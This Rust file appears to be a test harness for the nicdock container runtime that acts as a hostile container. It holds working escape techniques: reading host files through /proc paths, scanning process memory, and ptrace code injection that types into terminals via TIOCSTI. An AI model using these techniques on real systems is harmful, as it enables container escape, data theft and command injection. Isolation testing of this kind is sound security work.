//! A hostile container that reaches for whatever process appears in it.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::FileExt;
use std::time::Duration;

/// Where in a file of nicdock's, behind what it writes itself.
const BEHIND: u64 = 1 << 20;

/// What is looked for in memory, a file of the host's that is not in the container, and one that nicdock writes.
pub struct Goals<'a> {
    pub word: &'a str,
    pub secret: &'a str,
    pub written: &'a str,
}

/// Says `ready`, then each goal that is reached, a line each, for ever.
///
/// What takes long, or is seen, is done once to each process. `holds`: what is stopped by a signal stays so.
pub fn run(goals: &Goals<'_>, holds: bool) -> io::Result<()> {
    let known: BTreeSet<i32> = processes()?.into_iter().collect();
    let mut done = BTreeSet::new();
    say("ready")?;
    loop {
        for pid in processes()?.into_iter().filter(|pid| !known.contains(pid)) {
            signal(pid, libc::SIGSTOP);
            if state(pid) == Some('T') {
                say("stopped")?;
            }
            attack(pid, goals, &mut done)?;
            if !holds {
                signal(pid, libc::SIGCONT);
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

fn say(line: &str) -> io::Result<()> {
    // A pipe that is full must not stop the attack.
    io::stdout().write_all(format!("{line}\n").as_bytes())
}

fn processes() -> io::Result<Vec<i32>> {
    let listed = fs::read_dir("/proc")?.flatten();
    Ok(listed.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect())
}

fn signal(pid: i32, signal: i32) {
    // SAFETY: the call takes numbers.
    unsafe { libc::kill(pid, signal) };
}

fn state(pid: i32) -> Option<char> {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit_once(')')?.1.trim_start().chars().next()
}

fn attack(pid: i32, goals: &Goals<'_>, done: &mut BTreeSet<(i32, &'static str)>) -> io::Result<()> {
    let is_secret =
        |path: String| fs::read_to_string(path).is_ok_and(|text| text.contains("the host's secret"));
    if is_secret(format!("/proc/{pid}/root{}", goals.secret)) {
        say("root")?;
    }
    for number in 0..40 {
        let path = format!("/proc/{pid}/fd/{number}");
        let Ok(link) = fs::read_link(&path) else { continue };
        if is_secret(format!("{path}/../../../../..{}", goals.secret)) {
            say("descriptor")?;
        }
        let opened = || OpenOptions::new().write(true).open(&path);
        if link.ends_with(goals.written) && opened().is_ok_and(|file| file.write_at(b"owned", BEHIND).is_ok())
        {
            say("file")?;
        }
        let is_terminal = link.starts_with("/dev/pts") && !done.contains(&(pid, "terminal"));
        if is_terminal && terminal::types(pid, number).is_ok() {
            done.insert((pid, "terminal"));
            say("terminal")?;
        }
    }
    let is_new = !done.contains(&(pid, "memory"));
    if is_new && remembers(pid, goals.word.as_bytes()).is_ok_and(|found| found) {
        done.insert((pid, "memory"));
        say("memory")?;
    }
    Ok(())
}

fn remembers(pid: i32, word: &[u8]) -> io::Result<bool> {
    let memory = File::open(format!("/proc/{pid}/mem"))?;
    for line in fs::read_to_string(format!("/proc/{pid}/maps"))?.lines() {
        let Some((begin, end)) = line.split(' ').next().and_then(|range| range.split_once('-')) else {
            continue;
        };
        let (Ok(begin), Ok(end)) = (u64::from_str_radix(begin, 16), u64::from_str_radix(end, 16)) else {
            continue;
        };
        if !line.contains(" rw-p ") || end - begin > 64 << 20 {
            continue;
        }
        let mut content = vec![0; usize::try_from(end - begin).unwrap_or(0)];
        if memory.read_exact_at(&mut content, begin).is_ok()
            && content.windows(word.len()).any(|part| part == word)
        {
            return Ok(true);
        }
    }
    Ok(false)
}

#[cfg(target_arch = "x86_64")]
mod terminal {
    use std::io;
    use std::ptr;

    /// Makes a process type a line into its terminal (ioctl_tty(2), `TIOCSTI`).
    pub fn types(pid: i32, number: i32) -> io::Result<()> {
        let trace = |request, address: u64, data: u64| {
            // SAFETY: the requests used here take numbers, or a place for registers that lives until the call returns.
            let result = unsafe {
                libc::ptrace(request, pid, address as *mut libc::c_void, data as *mut libc::c_void)
            };
            if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
        };
        let wait = || {
            // SAFETY: no status is asked for.
            unsafe { libc::waitpid(pid, ptr::null_mut(), libc::__WALL) };
        };
        trace(libc::PTRACE_SEIZE, 0, 0)?;
        let _ = trace(libc::PTRACE_INTERRUPT, 0, 0);
        wait();
        let injected = || -> io::Result<()> {
            // SAFETY: all zero is valid for registers.
            let mut had: libc::user_regs_struct = unsafe { std::mem::zeroed() };
            trace(libc::PTRACE_GETREGS, 0, &raw mut had as u64)?;
            let before = trace(libc::PTRACE_PEEKTEXT, had.rip, 0)?.cast_unsigned();
            // The `syscall` instruction.
            trace(libc::PTRACE_POKETEXT, had.rip, before & !0xffff | 0x050f)?;
            let place = (had.rsp - 512) & !7;
            let mut result = Ok(());
            for letter in b"  owned\n" {
                trace(libc::PTRACE_POKETEXT, place, u64::from(*letter))?;
                let mut call = libc::user_regs_struct {
                    rax: libc::SYS_ioctl as u64,
                    orig_rax: u64::MAX,
                    rdi: u64::from(number.cast_unsigned()),
                    rsi: libc::TIOCSTI,
                    rdx: place,
                    ..had
                };
                trace(libc::PTRACE_SETREGS, 0, &raw mut call as u64)?;
                trace(libc::PTRACE_SINGLESTEP, 0, 0)?;
                wait();
                trace(libc::PTRACE_GETREGS, 0, &raw mut call as u64)?;
                if call.rax != 0 {
                    result = Err(io::ErrorKind::PermissionDenied.into());
                }
            }
            trace(libc::PTRACE_POKETEXT, had.rip, before)?;
            trace(libc::PTRACE_SETREGS, 0, &raw mut had as u64)?;
            result
        };
        let result = injected();
        let _ = trace(libc::PTRACE_DETACH, 0, 0);
        result
    }
}

#[cfg(not(target_arch = "x86_64"))]
mod terminal {
    pub fn types(_: i32, _: i32) -> std::io::Result<()> {
        Err(std::io::ErrorKind::Unsupported.into())
    }
}
